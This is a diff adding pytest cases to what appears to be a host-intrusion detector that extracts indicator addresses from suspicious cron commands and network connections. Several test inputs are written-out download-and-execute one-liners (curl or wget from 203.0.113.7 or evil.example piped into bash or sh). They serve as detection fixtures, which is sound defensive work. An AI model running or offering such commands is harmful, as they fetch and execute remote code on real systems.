@@ -230,3 +230,28 @@ def test_the_lists_are_read_once_however_many_addresses_there_are(monkeypatch: p
     for number in range(20):
         assert things("pool_connection", remote_address=f"203.0.113.{number}") >= {("address", f"203.0.113.{number}")}
     assert sorted(read) == sorted(set(read))
+
+
+@pytest.mark.parametrize(
+    ("command", "addresses"),
+    [
+        ("(curl -s 203.0.113.7/cf.sh||wget -q -O- 203.0.113.7/cf.sh)|bash", {"203.0.113.7"}),
+        ("curl -fsSL 203.0.113.7:8080/init.sh | sh", {"203.0.113.7"}),
+        ("wget -q evil.example/x.sh -O- | sh", {"evil.example"}),
+        ("wget -qO /tmp/x evil.example:8443/a", {"evil.example"}),
+        ("curl raw.githubusercontent.com/someone/things/x.sh", {"raw.githubusercontent.com/someone/things/x.sh"}),
+        # A network, a file's name, an argument that is no site, and what no program fetches.
+        ("ip route add 203.0.113.0/24 dev eth0", set()),
+        ("curl -sSLo lib.tar.gz/x https://evil.example/a", {"evil.example"}),
+        ("curl -O evil.example/x.sh", {"evil.example"}),
+        ("cat site.example/readme", set()),
+        ("/usr/bin/job --version 1.2.3.4/5", set()),
+    ],
+)
+def test_addresses_that_are_fetched_from_without_a_scheme(command: str, addresses: set[str]) -> None:
+    assert {value for kind, value in things("cron_download_and_run", command=command) if kind == "address"} == addresses
+
+
+@pytest.mark.parametrize("address", ["8.8.8.8", "140.82.121.4", "149.154.167.220", "169.254.169.254", "fe80::1", "224.0.0.251"])
+def test_what_everybody_asks_is_nobodys_address(address: str) -> None:
+    assert not {kind for kind, _value in things("suspect_program_on_network", pid="7", remote_address=address)} & {"address"}
